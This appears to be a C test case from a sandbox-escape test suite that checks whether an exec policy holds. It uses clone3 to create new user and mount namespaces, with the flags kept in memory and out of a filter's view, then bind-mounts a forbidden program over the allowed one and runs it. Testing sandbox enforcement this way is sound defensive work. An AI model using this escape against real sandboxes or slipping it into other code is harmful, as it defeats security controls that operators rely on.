// escape: binds over the allowed program in namespaces made by clone3, whose flags lie in memory
// group: namespaces
// policy: exec
// neighbour: exec_plain --neighbour
#include <linux/sched.h>
#include <sys/mount.h>

#include "escape.h"

static void attack(void) {
  struct clone_args arguments = {.flags = CLONE_NEWUSER | CLONE_NEWNS, .exit_signal = SIGCHLD};
  const long child = syscall(SYS_clone3, &arguments, sizeof arguments);
  if (child < 0) held("clone3: %s", strerror(errno));
  if (child == 0) {
    if (mount(forbidden(), GOOD, NULL, MS_BIND, NULL) < 0) held("mount: %s", strerror(errno));
    run(GOOD);
    _exit(1);
  }
  waitpid((pid_t)child, NULL, 0);
}
